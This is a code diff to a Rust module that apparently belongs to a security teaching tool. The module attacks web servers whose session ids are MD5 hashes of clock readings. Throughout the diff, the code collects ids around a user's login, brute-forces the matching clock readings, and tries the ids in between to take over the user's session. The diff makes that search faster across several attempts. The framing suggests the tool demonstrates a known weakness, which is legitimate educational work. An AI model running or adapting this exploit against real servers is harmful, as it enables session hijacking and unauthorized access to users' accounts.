@@ -17,6 +17,7 @@
 //! A real attacker comes by again and again until a user logs in between two visits. Here the
 //! attack plays the user, too, and need not wait.
 
+use std::collections::{HashMap, HashSet};
 use std::io;
 use std::ops::Range;
 use std::sync::Mutex;
@@ -32,14 +33,17 @@ use crate::client::{Connection, Request, Response};
 use crate::target::Target;
 use crate::victim::tutorial::python_str;
 
-/// Number of moments that are tried: the clients may be served in another order than they came.
-const MOMENTS: usize = 8;
+/// Number of moments. In some, the clients are served in another order than they came, or too late.
+const MOMENTS: usize = 5;
 
 /// Time between two of the clients.
 const PAUSE: Duration = Duration::from_micros(300);
 
 /// Maximum number of ids that are tried in one moment.
-const MAX_TRIES: usize = 100_000;
+const MAX_TRIES: u64 = 100_000;
+
+/// Number of seconds, from the first Date on, in which all ids of the attack are.
+const SEARCHED_SECONDS: u64 = 2;
 
 /// Number of connections on which ids are tried.
 const CONNECTIONS: usize = 16;
@@ -63,53 +67,85 @@ struct Got {
     page: Response,
 }
 
+/// A user that gets an id between two of the attacker.
+struct Moment {
+    before: Got,
+    user: Got,
+    after: Got,
+}
+
 pub(super) fn make(target: &Target) -> io::Result<Outcome> {
     let mut clients =
         [Connection::open(target)?, Connection::open(target)?, Connection::open(target)?];
     println!("The attacker gets an id, a user logs in, and the attacker gets another id.");
+    let mut moments = Vec::new();
     for _ in 0..MOMENTS {
-        let Some([before, user, after]) = moment(&mut clients)? else {
+        let Some(moment) = moment(&mut clients)? else {
             println!("Neither a visit of /login nor a login sets a cookie with an id.");
             return Ok(Outcome::NoAnswer);
         };
-        let began = Instant::now();
-        let Some(first) = find_first(&before) else {
-            tell(&before, &after);
-            println!("None of the {} readings of the clock in two seconds has", 2 << 22);
-            println!(
-                "this id as its MD5 ({:.1} s): it does not come from the clock.",
-                seconds(began)
-            );
-            return Ok(Outcome::Held);
-        };
-        let took = seconds(began);
-        let last = f64_of(before.second + 2);
-        let Some(second) = find_between(first.to_bits()..last.to_bits(), &after.id) else {
-            continue;
-        };
-        let between = first.to_bits() + 1..second.to_bits();
-        if between.clone().count() > MAX_TRIES {
-            continue;
+        moments.push(moment);
+    }
+    let began = Instant::now();
+    let Some(first) = find_first(&moments[0].before) else {
+        let Moment { before, after, .. } = &moments[0];
+        tell(before, after);
+        println!("None of the {} readings of the clock in two seconds has", 2 << 22);
+        println!("the first id as its MD5: it does not come from the clock.");
+        println!("({:.1} s)", seconds(began));
+        return Ok(Outcome::Held);
+    };
+    println!("The attacker does so {MOMENTS} times, and begins with the shortest moment.");
+    let mut known = find_all(first, &moments);
+    known.sort_by_key(|(_, readings)| readings.end - readings.start);
+    println!("Found in {:.1} s: its ids are hashes of the clock.\n", seconds(began));
+    for (moment, readings) in known {
+        log_in(&mut clients[1], &moment.user)?;
+        tell(&moment.before, &moment.after);
+        println!("They are:");
+        for bits in [readings.start, readings.end] {
+            let reading = f64::from_bits(bits);
+            let id = hex::encode(hash(reading));
+            println!("  md5(\"{}\") = {id}", python_str(reading));
         }
-        log_in(&mut clients[1], &user)?;
-        tell(&before, &after);
-        println!(
-            "These are the hashes of two readings of its clock, found in {took:.1} s:"
-        );
-        println!("  md5(\"{}\") = {}", python_str(first), before.id);
-        println!("  md5(\"{}\") = {}", python_str(second), after.id);
-        if try_ids(target, &before.name, &between)? {
+        if try_ids(target, &moment.before.name, &(readings.start + 1..readings.end))? {
             return Ok(Outcome::Broken);
         }
     }
-    // The first id was found each time, or this would have returned.
     println!("No id of the user was found, but all ids are hashes of the clock.");
     Ok(Outcome::Broken)
 }
 
+/// Finds the readings of the attacker's ids in all moments, from the first one on. Returns the
+/// moments of which both are known, in the right order and close together.
+fn find_all(first: f64, moments: &[Moment]) -> Vec<(&Moment, Range<u64>)> {
+    let ids = moments.iter().flat_map(|moment| [&moment.before.id, &moment.after.id]);
+    let mut wanted: HashSet<[u8; 16]> = ids.filter_map(|id| decode(id)).collect();
+    let mut found = HashMap::new();
+    let last = f64_of(moments[0].before.second + SEARCHED_SECONDS).to_bits();
+    // Some clients may have been served earlier than the first one.
+    let start = (first - 0.01).to_bits();
+    for bits in start..last {
+        let hash = hash(f64::from_bits(bits));
+        if wanted.remove(&hash) {
+            found.insert(hash, bits);
+        }
+        if wanted.is_empty() {
+            break;
+        }
+    }
+    let readings = |moment: &Moment| {
+        let before = *found.get(&decode(&moment.before.id)?)?;
+        let after = *found.get(&decode(&moment.after.id)?)?;
+        let is_short = (1..MAX_TRIES).contains(&after.saturating_sub(before));
+        is_short.then_some(before..after)
+    };
+    moments.iter().filter_map(|moment| Some((moment, readings(moment)?))).collect()
+}
+
 /// Lets the attacker, the user and the attacker get an id, at once after another. Returns `None`
 /// if the server gives none.
-fn moment(clients: &mut [Connection; 3]) -> io::Result<Option<[Got; 3]>> {
+fn moment(clients: &mut [Connection; 3]) -> io::Result<Option<Moment>> {
     let mut firsts = Vec::new();
     for client in clients.iter_mut() {
         firsts.push(prepare(client)?);
@@ -127,7 +163,8 @@ fn moment(clients: &mut [Connection; 3]) -> io::Result<Option<[Got; 3]>> {
         let Some(one) = Got::from(client.read()?) else { return Ok(None) };
         got.push(one);
     }
-    Ok(got.try_into().ok())
+    let got: Option<[Got; 3]> = got.try_into().ok();
+    Ok(got.map(|[before, user, after]| Moment { before, user, after }))
 }
 
 /// Returns the request that will bring an id. It is tried whether a visit alone does.
@@ -204,8 +241,13 @@ fn find_in_second(second: u64, id: &str) -> Option<f64> {
 /// Returns the reading whose hash is `id`. The bits of positive floats are in the order of the
 /// floats, so the next float is the next number.
 fn find_between(bits: Range<u64>, id: &str) -> Option<f64> {
-    let id: [u8; 16] = hex::decode(id).ok()?.try_into().ok()?;
+    let id = decode(id)?;
     bits.map(f64::from_bits).find(|reading| hash(*reading) == id)
+}
+
+/// Returns the bytes of an id of 32 hex digits.
+fn decode(id: &str) -> Option<[u8; 16]> {
+    hex::decode(id).ok()?.try_into().ok()
 }
 
 fn hash(reading: f64) -> [u8; 16] {
